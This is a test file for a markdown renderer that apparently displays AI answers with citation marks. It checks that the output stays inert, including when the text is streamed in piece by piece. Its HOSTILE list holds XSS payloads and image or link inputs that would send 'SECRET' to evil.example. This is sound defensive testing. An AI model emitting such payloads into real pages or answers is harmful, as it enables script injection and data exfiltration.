// @vitest-environment happy-dom
import { html, render } from 'lit'
import { describe, expect, it } from 'vitest'
import { markdown } from '../src/answer/markdown'

const ALLOWED = new Set(['P', 'UL', 'OL', 'LI', 'BLOCKQUOTE', 'PRE', 'CODE', 'HR', 'BR', 'STRONG', 'EM', 'DEL', 'SPAN', 'DIV', 'TABLE', 'THEAD', 'TBODY', 'TR', 'TH', 'TD', 'SUP'])
const ATTRIBUTES = new Set(['class', 'start', 'role', 'aria-level', 'scope', 'tabindex'])

function drawn(text: string, into = document.createElement('div')): HTMLElement {
  render(html`${markdown(text, (n, nth) => html`<sup>${n}.${nth}</sup>`)}`, into)
  return into
}

const plain = (root: HTMLElement): string => root.innerHTML.replace(/<!--[\s\S]*?-->/g, '')

function expectInert(root: HTMLElement): void {
  for (const element of root.querySelectorAll('*')) {
    expect(ALLOWED, element.outerHTML).toContain(element.tagName)
    for (const { name } of element.attributes) expect(ATTRIBUTES, element.outerHTML).toContain(name)
  }
}

const HOSTILE: readonly string[] = [
  '<script>alert(1)</script>',
  'a <img src=x onerror=alert(1)> b',
  '<svg onload=alert(1)><circle/></svg>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<a href="https://evil.example" ping="https://evil.example">x</a>',
  '<style>body{background:url(https://evil.example)}</style>',
  '![secret](http://127.0.0.1:9/?d=SECRET)',
  '![secret][ref]\n\n[ref]: http://127.0.0.1:9/?d=SECRET',
  '[click](javascript:alert(1))',
  '[click](data:text/html,<script>alert(1)</script>)',
  '[click][1]\n\n[1]: https://evil.example/?d=SECRET "t"',
  '[1]\n\n[1]: https://evil.example',
  '<https://evil.example/?d=SECRET>',
  'see https://evil.example/?d=SECRET or www.evil.example now',
  '| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | ![x](http://e.example) |',
  '- <script>alert(1)</script>\n  - [x](javascript:1)',
  '`<img src=x>` and\n```html" onload="alert(1)\n<script>alert(1)</script>\n```',
  '<!-- hidden --> <?php ?> <![CDATA[x]]>',
  '&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;',
  '*[a](https://a.example "onmouseover=alert(1)")* **![b](//b.example)**',
]

describe('markdown', () => {
  it.each(HOSTILE)('stays inert: %s', (text) => expectInert(drawn(text)))

  it.each(HOSTILE)('ends in the same DOM when it was streamed: %s', (text) => {
    const streamed = document.createElement('div')
    for (let end = 1; end <= text.length; end += 1) {
      drawn(text.slice(0, end), streamed)
      expectInert(streamed)
    }
    expect(plain(streamed)).toBe(plain(drawn(text)))
  })

  it('shows tags as the text they are', () => {
    expect(drawn('a <b onclick="x">bold</b>').textContent).toBe('a <b onclick="x">bold</b>')
    expect(drawn('<script>alert(1)</script>').textContent).toContain('<script>alert(1)</script>')
  })

  it('names an image and does not fetch it', () => {
    const root = drawn('![our logo](https://evil.example/x.png)')
    expect(root.querySelector('img')).toBeNull()
    expect(root.textContent).toBe('[image: our logo]')
  })

  it('shows where a link would lead, in full, and cannot be followed', () => {
    const root = drawn('[our portal](https://login.portal.example.evil.example/x)')
    expect(root.querySelector('a')).toBeNull()
    expect(root.textContent).toBe('our portal (login.portal.example.evil.example)')
    expect(drawn('[x](javascript:alert(1))').textContent).toBe('x (javascript:alert(1))')
  })

  it('draws what a text is made of', () => {
    const root = drawn('# Title\n\n**a** *b* ~~c~~ `d`\n\n3. x\n4. y\n\n> q\n\n---\n\n| h |\n|--:|\n| 1 |')
    for (const tag of ['strong', 'em', 'del', 'code', 'ol[start="3"]', 'li', 'blockquote', 'hr', 'td.right', 'th[scope=col]', '[role=heading]']) {
      expect(root.querySelector(tag), tag).not.toBeNull()
    }
  })

  it('turns our marks into citations, counted by number', () => {
    const root = drawn('One. [1] Two [2], three [1].\n\n- four [1, 3]')
    expect([...root.querySelectorAll('sup')].map((mark) => mark.textContent)).toEqual(['1.0', '2.0', '1.1', '1.2', '3.0'])
  })

  it('leaves brackets in code, years and list boxes alone', () => {
    expect(drawn('`a[1]` and [2026] and [x]').querySelector('sup')).toBeNull()
  })

  it('decodes character references into text', () => {
    expect(drawn('R&amp;D &lt;b&gt; &#20013; &nope;').textContent).toBe('R&D <b> 中 &nope;')
  })

  it('survives nesting that would exhaust a stack, and very long texts', () => {
    expectInert(drawn('>'.repeat(20_000) + ' x'))
    expect(drawn('a '.repeat(60_000)).querySelector('p.raw')).not.toBeNull()
  })
})
